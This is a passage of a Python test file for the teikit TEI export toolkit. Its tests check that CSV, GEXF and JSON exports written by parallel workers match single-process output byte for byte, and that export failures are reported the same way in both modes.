        ("edges.csv", csv_export.EDGE_COLUMNS, csv_export.edge_rows(net)),
        ("edge_letters.csv", csv_export.EDGE_LETTER_COLUMNS, csv_export.edge_letter_rows(net)),
    ):
        expected = csv_export.write_table(tmp_path / name, header, rows).read_bytes()
        assert (tmp_path / "csv" / name).read_bytes() == expected
        assert expected.count(b"\n") > 2


def test_gexf_co_mention_edges_from_ranks_are_the_edges_as_text(index):
    """The co-mention graph is written from the edges' ranks (each id escaped
    once): the same bytes as writing each Edge with _edge_text."""
    import io

    from teikit.exports.gexf import write_graph

    net = build_network(index, min_co_mentions=1)
    wanted = net.co_mentions.node_ids
    fast, plain = io.BytesIO(), io.BytesIO()
    write_graph(fast, net.nodes, net.co_mentions, wanted, "co-mention", "T")
    write_graph(plain, net.nodes, list(net.co_mentions), wanted, "co-mention", "T")
    assert fast.getvalue() == plain.getvalue()
    assert fast.getvalue().count(b"<edge ") == len(list(net.co_mentions)) > 1


def test_export_all_with_workers_writes_and_reports_what_one_process_does(tmp_path):
    """With jobs > 1 the writers run in two groups at the same time, one in a
    forked worker: the same files, byte for byte, and the same findings in the
    same order (CMIF's failure included) as one process writing them in turn."""
    runs = {}
    for jobs in (1, 2):
        out = tmp_path / f"j{jobs}"
        findings: list = []
        written = export(TEI, out, "all", findings=findings, jobs=jobs)
        files = {p.relative_to(out): p.read_bytes() for p in out.rglob("*") if p.is_file()}
        runs[jobs] = ([p.relative_to(out) for p in written], files, findings)
    assert runs[1][0] == runs[2][0]  # the files written, in the same order
    assert runs[1][1] == runs[2][1]
    assert [(d.code, d.message) for d in runs[1][2]] == [(d.code, d.message) for d in runs[2][2]]
    assert any("cmif not written" in d.message for d in runs[2][2])
    with pytest.raises(UsageError, match="cannot write CMIF"):
        export(TEI, tmp_path / "raised", "all", jobs=2)  # from the worker, as it was


def test_export_all_with_workers_reports_a_mentions_csv_it_cannot_write(tmp_path):
    """With jobs > 1 mentions.csv is written before the writers' worker is forked:
    when it cannot be, CSV alone fails, reported as one process reports it."""
    reported = {}
    for jobs in (1, 2):
        out = tmp_path / f"j{jobs}"
        (out / "csv" / "mentions.csv").mkdir(parents=True)  # a folder in its place
        findings: list = []
        export(TEI, out, "all", findings=findings, jobs=jobs)
        reported[jobs] = [
            (d.code, d.message.replace(str(out), "OUT"))
            for d in findings
            if d.code == "export-failed"
        ]
        assert (out / "places.geojson").is_file()
        assert (out / "csv" / "letters.csv").exists() is (jobs == 1)  # written before it, or not
    assert reported[1] == reported[2]
    assert [m.split()[0] for _, m in reported[2]] == ["cmif", "csv"]
    assert "mentions.csv: is a directory" in reported[2][1][1]


def test_export_all_writes_the_formats_of_a_helper_that_died_itself(tmp_path, monkeypatch):
    """A network helper that dies (or cannot start) loses nothing: its formats
    (GEXF, and CSV's network tables) are written by this process instead, the
    same files as with one job."""
    from teikit import exports

    export(TEI, tmp_path / "one", "all", findings=[], jobs=1)
    monkeypatch.setattr(exports, "_HELPER", "import os; os._exit(3)")
    findings: list = []
    export(TEI, tmp_path / "all", "all", findings=findings, jobs=2)
    failed = sorted(d.message.split()[0] for d in findings if d.code == "export-failed")
    assert failed == ["cmif"]  # no e-mail given, as with one job
    for name in (
        "network.gexf",
        "network.co-mentions.gexf",
        "csv/edges.csv",
        "csv/edge_letters.csv",
        "csv/mentions.csv",
        "places.geojson",
    ):
        assert (tmp_path / "all" / name).read_bytes() == (tmp_path / "one" / name).read_bytes()


def test_json_exports_are_what_json_dump_writes(tmp_path):
    """GeoJSON and JSON-LD are written by teikit's own indenting encoder: the same
    bytes as ``json.dump(ensure_ascii=False, indent=2)``, escapes, numbers, empty
    containers, lists of strings and objects written at many places included."""
    import random

    from teikit.exports.common import write_json

    shared = {"id": "l1", "title": 'say "hi"\n', "n": [1, 2.5]}
    values = [
        "", "é😀", 'q"\\/\x00\x1f\x7f\u2028', 0, -3, 10**30, 1.5, -0.0, 1e300, float("nan"),
        float("inf"), -float("inf"), True, False, None, [], {}, (), ["a", "b"], ["a", 1, "b"],
        ("t", None), {"k": []}, {3: "int", 2.5: "float", False: "bool", None: "none"},
    ]  # fmt: skip
    rnd = random.Random(7)

    def nested(depth: int) -> object:
        if depth > 3 or rnd.random() < 0.3:
            return rnd.choice(values)
        if rnd.random() < 0.5:
            return [nested(depth + 1) for _ in range(rnd.randrange(4))] + [shared]
        return {f"k{n}\t": nested(depth + 1) for n in range(rnd.randrange(4))}

    for n in range(300):
        data = {"values": values, "nested": nested(0), "again": [shared, {"x": shared}]}
        path = write_json(tmp_path / f"{n}.json", data, repeated=[shared, shared["n"]])[0]
        assert path.read_text("utf-8") == json.dumps(data, ensure_ascii=False, indent=2) + "\n"
    with pytest.raises(TypeError):
        write_json(tmp_path / "set.json", {"a": {1, 2}})
